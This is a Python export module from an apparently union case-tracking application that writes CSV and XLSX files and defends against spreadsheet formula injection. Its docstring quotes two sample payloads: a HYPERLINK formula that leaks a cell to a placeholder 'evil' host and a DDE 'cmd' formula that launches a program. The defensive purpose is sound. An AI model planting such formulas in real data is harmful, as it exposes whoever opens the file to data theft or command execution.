"""Writing lists — matters of a kind, members, deadlines — to CSV and XLSX, safely.

The tables themselves are built from the database in ``services/export_tables.py``; this module
only writes a plain :class:`ExportTable`.

A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula:
a grievance titled ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``=cmd|'/c calc'!A1`` would
run when an officer opens the export (CSV injection). Case text comes from members, stewards'
spreadsheets and agency correspondence, so exports neutralise it:

* **CSV** — following the OWASP guidance, a text cell beginning with ``=``, ``+``, ``-``, ``@``,
  tab or carriage return is prefixed with a single quote (spreadsheets show the text; the quote
  marks that it was neutralised), and every text cell is quoted. Numbers stay numbers.
  Files are UTF-8 with a byte-order mark so that Excel reads accents and right-to-left text.
* **XLSX** — text is written as a string cell (``t="inlineStr"``), never as a formula, so no
  prefix is needed and the text is exact. Dates are real dates (``yyyy-mm-dd``) that sort and
  filter as dates.

Both formats drop characters that spreadsheets cannot hold (control characters other than tab
and line breaks, lone surrogates, U+FFFE/U+FFFF). XLSX cells hold at most 32,767 characters;
longer text is cut there with a note. Members' contact details (email, phone, and the free-text
notes, which often carry them) can be left out. Files are written to a temporary name, readable
by the user only, and renamed into place, so a failed export never leaves half a file.

Openpyxl's write-only mode streams rows to the file, so 100,000 grievances export in seconds
without building a workbook in memory.
"""

from __future__ import annotations

import contextlib
import csv
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

from naij_tracker.db.atomic import atomic_path
from naij_tracker.db.errors import StorageError
from naij_tracker.domain.kinds import MatterKind

#: What ``naij-tracker export KIND`` accepts, and what the lists are called in the GUI.
MATTER_EXPORTS: dict[str, MatterKind] = {
    "bargaining": MatterKind.BARGAINING,
    "flra": MatterKind.FLRA,
    "grievances": MatterKind.GRIEVANCE,
    "metrics": MatterKind.METRIC_DISPUTE,
}
EXPORT_KINDS: tuple[str, ...] = (*MATTER_EXPORTS, "members", "deadlines")
FORMATS = (".csv", ".xlsx")

#: OWASP: cells starting with these are interpreted as formulas (or start one) by spreadsheets.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MAX_CELL = 32_767
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SURROGATE = re.compile("[\ud800-\udfff]")
CONTACT_COLUMNS = frozenset({"Email", "Phone", "Notes"})


@dataclass(frozen=True)
class ExportTable:
    """A list ready to be written: a sheet title, column headers and rows of plain values."""

    title: str
    headers: tuple[str, ...]
    rows: Sequence[Sequence[Any]]

    def without(self, headers: Iterable[str]) -> ExportTable:
        drop = set(headers)
        keep = [i for i, h in enumerate(self.headers) if h not in drop]
        return ExportTable(self.title, tuple(self.headers[i] for i in keep),
                           [tuple(r[i] for i in keep) for r in self.rows])


# -- cleaning cells ----------------------------------------------------------------------------

def sanitize(text: str) -> str:
    """Remove what no spreadsheet can hold (NUL and other control characters, lone surrogates)."""
    text = _ILLEGAL.sub("", text)
    return _SURROGATE.sub("\ufffd", text)


def neutralise(text: str) -> str:
    """Prefix a quote to text that a spreadsheet would run as a formula (OWASP CSV injection)."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float):
        return int(value) if value.is_integer() and abs(value) < 2**53 else value
    if isinstance(value, int):
        return value
    return neutralise(sanitize(str(value)))


def xlsx_text(value: str) -> str:
    text = sanitize(value).replace("\r\n", "\n").replace("\r", "\n")
    if len(text) > XLSX_MAX_CELL:
        note = f" … [cut: {len(text):,} characters in the case file]"
        text = text[: XLSX_MAX_CELL - len(note)] + note
    return text


# -- writing -----------------------------------------------------------------------------------

@contextlib.contextmanager
def _atomic(path: Path) -> Any:
    """Yield a temporary path beside ``path``; renamed into place only if all went well
    (``db.outputs.atomic_path``: one write-and-sync policy for every file we write)."""
    try:
        with atomic_path(path) as tmp:
            yield tmp
    except OSError as exc:
        raise StorageError(f"Could not write {path}: {exc.strerror or exc}") from exc


def write_csv(table: ExportTable, path: Path) -> Path:
    path = Path(path)
    with _atomic(path) as tmp, tmp.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC)
        writer.writerow([neutralise(sanitize(h)) for h in table.headers])
        for row in table.rows:
            writer.writerow([csv_cell(v) for v in row])
    return path


def _sheet_title(title: str) -> str:
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", sanitize(title)).strip("' ") or "Export"
    return cleaned[:31]


def _width(value: Any) -> int:
    if isinstance(value, datetime):
        return 16
    if isinstance(value, date):
        return 11
    text = str(value) if value is not None else ""
    return min(max((len(line) for line in text.split("\n")), default=0), 60)


def write_xlsx(table: ExportTable, path: Path) -> Path:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    path = Path(path)
    wb = Workbook(write_only=True)
    wb.properties.creator = "NAIJ Case Tracker"  # how a later export recognises its own file
    ws = wb.create_sheet(_sheet_title(table.title))
    ws.freeze_panes = "A2"
    sample = list(table.rows[:200])
    for i, header in enumerate(table.headers, start=1):
        width = max([_width(header), *(_width(r[i - 1]) for r in sample)])
        ws.column_dimensions[get_column_letter(i)].width = max(width + 2, 8)
    bold = Font(bold=True)

    def cell(value: Any, header: bool = False) -> Any:
        if isinstance(value, str):
            c = WriteOnlyCell(ws, value=xlsx_text(value))
            c.data_type = "s"  # text, never a formula — whatever it begins with
        elif isinstance(value, datetime):
            c = WriteOnlyCell(ws, value=value)
            c.number_format = "yyyy-mm-dd hh:mm"
        elif isinstance(value, date):
            c = WriteOnlyCell(ws, value=value)
            c.number_format = "yyyy-mm-dd"
        elif value is None or isinstance(value, bool | int | float):
            c = WriteOnlyCell(ws, value=value)
        else:
            c = WriteOnlyCell(ws, value=xlsx_text(str(value)))
            c.data_type = "s"
        if header:
            c.font = bold
        return c

    ws.append([cell(h, header=True) for h in table.headers])
    for row in table.rows:
        ws.append([cell(v) for v in row])
    with _atomic(path) as tmp:
        wb.save(tmp)
    return path


def write_table(table: ExportTable, path: Path | str) -> Path:
    """Write ``table`` as CSV or XLSX, chosen by the file's extension."""
    path = Path(path).expanduser()
    suffix = path.suffix.lower()
    if suffix == ".csv":
        return write_csv(table, path)
    if suffix == ".xlsx":
        return write_xlsx(table, path)
    raise ValueError(f"{path.name}: exports are written as .csv or .xlsx; choose one of those.")
